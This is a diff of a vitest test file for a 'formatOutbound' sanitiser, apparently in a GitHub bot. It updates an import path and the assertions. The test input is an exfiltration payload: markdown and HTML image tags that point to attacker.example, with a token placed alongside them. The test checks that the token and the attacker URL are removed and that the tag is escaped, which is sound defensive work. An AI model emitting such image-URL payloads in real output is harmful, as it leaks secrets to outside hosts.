@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { fenceFor, formatOutbound, neutralizeClosingKeywords, neutralizeMentions } from "../../../src/github/format-outbound.js";
+import { fenceFor, formatOutbound, neutralizeClosingKeywords, neutralizeMentions } from "../../../src/shared/format-outbound.js";
 import { findMarker, renderMarker } from "../../../src/github/markers.js";
 
 describe("formatOutbound", () => {
@@ -22,8 +22,8 @@ describe("formatOutbound", () => {
     const out = formatOutbound(`token ${token} ![x](https://attacker.example/?d=abc) <img src="https://attacker.example/p.png"> ![ok](https://github.com/o/r/a.png)`);
     expect(out).not.toContain(token);
     expect(out).not.toContain("attacker.example/?d=abc");
-    expect(out).not.toContain('<img src="https://attacker');
-    expect(out).toContain("https://github.com/o/r/a.png");
+    expect(out).toContain("\\<img src");
+    expect(out).toContain("![ok](<https://github.com/o/r/a.png>)");
   });
 
   it("fences are longer than any backtick run", () => {
